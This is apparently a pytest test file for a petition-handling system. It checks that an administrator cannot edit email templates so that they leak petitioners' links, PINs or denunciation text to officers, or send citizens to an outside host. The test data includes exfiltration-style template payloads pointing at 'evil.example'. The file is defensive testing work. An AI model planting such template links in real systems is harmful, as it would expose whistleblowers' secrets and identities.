"""An administrator, who may read no petition, tries to have one sent to them by the texts that they edit."""

from __future__ import annotations

import json
import re
from datetime import date

import pytest

from shared.tables import directory as directories
from shared.tables.directory import Directory
from tests.support.people import CITIZEN, Citizen, Officer
from tests.support.system import System

CANARY = "zq917t"
DENUNCIATION = (
    f"Tôi tố cáo ông Trần Văn Cường nhận hối lộ 20 triệu đồng của người dự thi, có ghi âm. {CANARY}"
)
STOLEN = "Mở: {{ link }} {{ pin }} {{ text }} {{ answer }} {{ progress }} {{ body }}"
TODAY = "2026-11-03"


@pytest.fixture
def administrator(system: System) -> Officer:
    """The administrator."""
    return Officer(system, "quantri")


def store(system: System, name: str, text: str, subject: str = "Mã {{ reference }}") -> None:
    """Store a text as a version of the code that checked less would have done."""
    rows = Directory(system.local.cloud.outputs["DirectoryTable"])
    rows.put("template", name, date(2026, 11, 1), {"text": text, "subject": subject})
    directories.forget()


def put(system: System, administrator: Officer, name: str, text: str, subject: str) -> int:
    row = {"valid_from": TODAY, "text": text, "subject": subject}
    answer = system.http(
        "PUT", f"/desk/v1/directory/template/{name}", json=row, headers=administrator._bearer
    )
    return answer.status


@pytest.mark.parametrize("variable", ["link", "pin", "answer", "text", "body", "progress"])
@pytest.mark.parametrize("place", ["text", "subject"])
def test_text_for_officers_with_what_is_the_petitioners_is_not_saved(
    system: System, administrator: Officer, variable: str, place: str
) -> None:
    written = {"text": "Xin xem.", "subject": "Mã", place: f"{{{{ {variable} }}}}"}

    assert put(system, administrator, "officer.RESTRICTED.EMAIL.vi", **written) == 422


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/?t={{ link }}",
        "https://{{ digits }}.evil.example",
        "{% if n == 57 %}https://evil.example{% endif %}",
    ],
)
def test_text_for_citizens_that_leads_elsewhere_is_not_saved(
    system: System, administrator: Officer, link: str
) -> None:
    assert put(system, administrator, "petitioner.RECEIPT.EMAIL.vi", f"Mã. {link}", "Mã") == 422
    assert put(system, administrator, "petitioner.RECEIPT.EMAIL.vi", "Mã.", f"Mã {link}") == 422


def test_stored_text_that_breaks_the_rules_is_replaced_by_the_shipped_one_and_counted(system: System) -> None:
    for kind in ("RESTRICTED", "HANDED_TO_INTAKE", "ASSIGNED", "WARNING", "DIGEST"):
        store(system, f"officer.{kind}.EMAIL.vi", STOLEN, "{{ link }}")
    store(
        system, "petitioner.RECEIPT.EMAIL.vi", "Xem https://evil.example/{{ digits }}", "Mã {{ reference }}"
    )
    system.local.functions.metrics.clear()

    denounced, ordinary = Citizen(system, content=DENUNCIATION), Citizen(system)
    denounced.send()
    ordinary.send()
    system.travel(days=20)

    mails = [mail for mail in system.outbox(channel="EMAIL") if mail.to != CITIZEN["email"]]
    mailed = "\n".join(f"{mail.subject}\n{mail.text}" for mail in mails)
    letters = [mail for mail in system.outbox(channel="EMAIL") if mail.to == CITIZEN["email"]]
    tokens = [token for letter in letters for token in re.findall(r"[?&]t=([0-9a-z]+)", letter.text)]
    assert "hồ sơ theo quy trình riêng" in mailed
    assert len(set(tokens)) == 2
    assert not any(secret in mailed for secret in (*tokens, "t=", denounced.pin, ordinary.pin, CANARY))
    assert not any("evil.example" in letter.text for letter in letters)
    refused = {
        line.get("template")
        for line in map(json.loads, system.local.functions.metrics)
        if line.get("TemplateRefused")
    }
    assert refused >= {
        "officer.RESTRICTED.EMAIL.vi",
        "officer.ASSIGNED.EMAIL.vi",
        "petitioner.RECEIPT.EMAIL.vi",
    }
